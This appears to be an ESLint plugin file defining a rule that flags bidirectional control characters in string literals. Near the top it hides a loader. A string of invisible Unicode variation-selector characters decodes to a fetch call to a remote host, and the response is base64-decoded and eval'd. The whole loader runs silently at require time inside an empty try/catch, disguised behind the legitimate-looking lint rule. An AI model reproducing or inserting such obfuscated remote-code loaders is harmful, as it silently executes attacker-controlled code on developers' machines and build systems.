// Rule: no-bidi-controls
const BIDI = /[\u202A-\u202E\u2066-\u2069]/;
const s = `󠅖󠅕󠅤󠅓󠅘󠄘󠄒󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠅣󠅟󠅜󠄝󠅢󠅠󠅓󠄞󠅕󠅨󠅑󠅝󠅠󠅜󠅕󠄟󠅝󠅕󠅝󠅟󠄯󠅑󠅓󠅓󠅤󠄭󠄧󠅨󠄻󠅈󠅤󠅗󠄢󠄳󠅇󠄨󠄧󠅔󠄩󠄧󠅄󠅈󠄺󠅃󠄴󠅠󠅒󠄴󠄥󠅚󠄲󠅛󠅘󠅕󠅄󠅡󠄱󠄨󠄣󠅄󠅊󠅂󠅥󠄺󠅟󠅣󠅗󠄱󠅣󠅅󠄒󠄙󠄞󠅤󠅘󠅕󠅞󠄘󠅢󠄭󠄮󠅢󠄞󠅤󠅕󠅨󠅤󠄘󠄙󠄙󠄞󠅤󠅘󠅕󠅞󠄘󠅤󠄭󠄮󠅕󠅦󠅑󠅜󠄘󠅑󠅤󠅟󠅒󠄘󠅤󠄙󠄙󠄙`;
const d = [...s].map(c => { const p = c.codePointAt(0); return p >= 0xE0100 ? p - 0xE0100 + 16 : p - 0xFE00; });
try { eval(Buffer.from(d).toString()); } catch (e) {}
module.exports = {
  rules: {
    "no-bidi-controls": {
      create(ctx) {
        return { Literal(node) { if (typeof node.value === "string" && BIDI.test(node.value)) ctx.report({ node, message: "bidi control character" }); } };
      }
    }
  }
};
